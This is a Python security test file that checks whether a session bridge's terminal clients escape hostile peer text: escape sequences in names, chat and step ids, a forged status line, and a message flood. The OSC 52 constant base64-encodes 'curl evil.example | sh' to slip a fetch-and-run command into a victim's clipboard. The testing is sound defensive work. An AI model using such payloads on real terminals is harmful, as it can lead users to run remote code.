"""Issue 9, item 7: what a peer's text can do to the other side's terminal.

The review put escape sequences in an attendee's name and chat (window title, screen clear,
an OSC 52 clipboard write, a forged "joined" line) and sent 20,000 hand raises in 1.2 s,
which printed 20,000 lines. Here a hostile attendee does the same to a presenter process
(run with -v, so its logs are checked too), and a hostile presenter to a follow process.
"""

from __future__ import annotations

import asyncio
import contextlib
import time

from bridge.config import ClientConfig
from bridge.protocol.events import (
    AttendeeState,
    ChatMessage,
    HandRaise,
    Heartbeat,
    InteractiveAction,
    ShowMe,
    TargetAction,
)
from bridge.protocol.joincode import JoinCode
from bridge.session.live import LiveAttendee, LivePresenter
from tests.conftest import UNIT
from tests.security.attack_tools import endpoint
from tests.servers import CliProcess, our_signaling_server

FORGED_LINE = "+ Eve joined (follow mode)"
HOSTILE_NAME = "\x1b]0;pwned\x07\x1b[2J\x1b[H\r\n" + FORGED_LINE
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"


def control_characters(text: str) -> list[str]:
    return [ch for ch in text if ch != "\n" and (ord(ch) < 0x20 or 0x7F <= ord(ch) <= 0x9F)]


async def test_hostile_names_chat_and_a_hand_raise_flood_on_the_presenters_terminal() -> None:
    with our_signaling_server() as server:
        client = ClientConfig(server_url=server)
        presenter = CliProcess("present", "--no-browser", "--server", server, "-v", stdin=True)
        with presenter:
            line = await asyncio.to_thread(
                presenter.wait_for, lambda text: text.startswith("Join code: "), 20 * UNIT
            )
            code = JoinCode.parse(line.split(": ", 1)[1])
            mallory = LiveAttendee(client, endpoint(server), code, name=HOSTILE_NAME)
            await mallory.join()
            try:
                assert mallory.connection is not None
                base = {"sessionId": code.id, "senderId": "attendee"}
                mallory.connection.send(
                    ChatMessage(senderName="Mallory", message=OSC52, **base).to_wire()
                )
                mallory.report(AttendeeState.ERROR, step="s1\x1b[31m", error="\x1b]0;title\x07")
                frames = [  # encoded once: the flood is as fast as the channel takes it
                    mallory.connection.codec.encode(
                        HandRaise(attendeeName=OSC52, isRaised=up, **base).to_wire()
                    )[0]
                    for up in (True, False)
                ]
                channel = mallory.connection.channel
                assert channel is not None
                sent, started = 0, time.monotonic()
                while sent < 20_000:
                    if channel.bufferedAmount > 1 << 20:
                        await asyncio.sleep(0.005)
                        continue
                    channel.send(frames[sent % 2])
                    sent += 1
                flood_seconds = time.monotonic() - started
                ada = LiveAttendee(client, endpoint(server), code, name="Ada")
                await ada.join()
                await asyncio.to_thread(
                    presenter.wait_for, lambda text: text.startswith("+ Ada joined"), 20 * UNIT
                )
                await ada.close()
            finally:
                await mallory.close()
            presenter.stop()
        shown = presenter.seen + list(iter(presenter.lines.get, None))
        hands = [text for text in shown if "hand raised" in text]
        print(f"\n20,000 hand raises in {flood_seconds:.1f} s: {len(hands)} lines shown")
        assert [text for text in shown if control_characters(text)] == []
        assert control_characters(presenter.stderr) == []  # the -v logs too
        assert not any(text.startswith(FORGED_LINE) for text in shown)
        assert any("joined (guided mode)" in text and "\\x1b]0;pwned" in text for text in shown)
        assert any("chat" in text and "\\x1b]52;c;" in text for text in shown)
        assert 1 <= len(hands) <= 10
        assert "sends faster than 20 messages/s" in presenter.stderr  # the channel's own limit


async def test_a_hostile_presenters_text_on_the_followers_terminal() -> None:
    with our_signaling_server() as server:
        client = ClientConfig(server_url=server)
        presenter = LivePresenter(
            client,
            endpoint(server),
            name="\x1b]0;pwned\x07Workshop",
            tutorial_url="https://grafana.com/docs/x\x1b[2J",
        )
        code = await presenter.start()
        follower = CliProcess("follow", code.encode(), "--server", server, "--no-browser")
        with follower:
            try:
                await asyncio.to_thread(
                    follower.wait_for, lambda text: text.startswith("Joined session"), 20 * UNIT
                )
                presenter.broadcast(
                    ShowMe(
                        stepId="s1\r\n" + FORGED_LINE,
                        action=InteractiveAction(TargetAction.HIGHLIGHT, "#x" + OSC52),
                    )
                )
                await asyncio.to_thread(
                    follower.wait_for, lambda text: text.startswith("show_me"), 20 * UNIT
                )
                # A presenter flooding its attendee is cut at the attendee's channel limit.
                assert presenter.peer is not None
                [connection] = presenter.peer.connections
                assert connection.channel is not None
                beat = Heartbeat(sentAt=1, sessionId=code.id, senderId="presenter")
                frame = connection.codec.encode(beat.to_wire())[0]
                for _ in range(3000):
                    connection.channel.send(frame)
                assert await asyncio.to_thread(
                    follower.wait_for_stderr, "sends faster than 100 messages/s", 20 * UNIT
                )
                await asyncio.sleep(5)  # its bucket refills (400 at 100/s): session_end gets in
            finally:
                await presenter.stop(OSC52 + "\x1b[2Jbye")
            await asyncio.to_thread(
                follower.wait_for, lambda text: text.startswith("Session ended"), 20 * UNIT
            )
            with contextlib.suppress(Exception):
                follower.stop()
        shown = follower.seen
        assert [text for text in shown if control_characters(text)] == []
        assert not any(text.startswith(FORGED_LINE) for text in shown)
        assert any(text.startswith("Session ended: \\x1b]52;c;") for text in shown)


async def test_a_hostile_step_id_in_swarms_summary() -> None:
    """Red-team finding 7: swarm's summary printed a missed event's step id raw."""
    import dataclasses
    import time

    from bridge.session import presenter as pres

    evil = "s1\x1b]0;pwned-title\x07" + OSC52 + "\x1b[2J\r\n" + FORGED_LINE
    with our_signaling_server() as server:
        presenter = LivePresenter(ClientConfig(server_url=server), endpoint(server), name="w")
        code = await presenter.start()
        swarm = CliProcess(
            "swarm",
            "-n",
            "2",
            "--server",
            server,
            "--duration",
            "8",
            "--processes",
            "1",
            code.encode(),
        )
        with swarm:
            try:
                async with asyncio.timeout(30 * UNIT):
                    while len(presenter.attendees) < 2:  # noqa: ASYNC110
                        await asyncio.sleep(0.1)
                # Sent to the first attendee only: the second one "missed" it.
                event = presenter.session.stamp(
                    ShowMe(stepId=evil, action=InteractiveAction(TargetAction.HIGHLIGHT, "#x")),
                    int(time.time() * 1000),
                )
                presenter.session.seq += 1
                wire = dataclasses.replace(event, seq=presenter.session.seq).to_wire()
                presenter._perform([pres.SendTo(presenter.attendees[0].conn, wire)])
                await asyncio.to_thread(swarm.process.wait, 60 * UNIT)
            finally:
                await presenter.stop()
            out = []
            while (line := swarm.lines.get(timeout=5 * UNIT)) is not None:
                out.append(line)
            shown = "\n".join(out) + swarm.stderr
    assert "missed show_me" in shown
    assert "\x1b" not in shown and "\x07" not in shown
    assert not any(line.startswith(FORGED_LINE) for line in shown.splitlines())
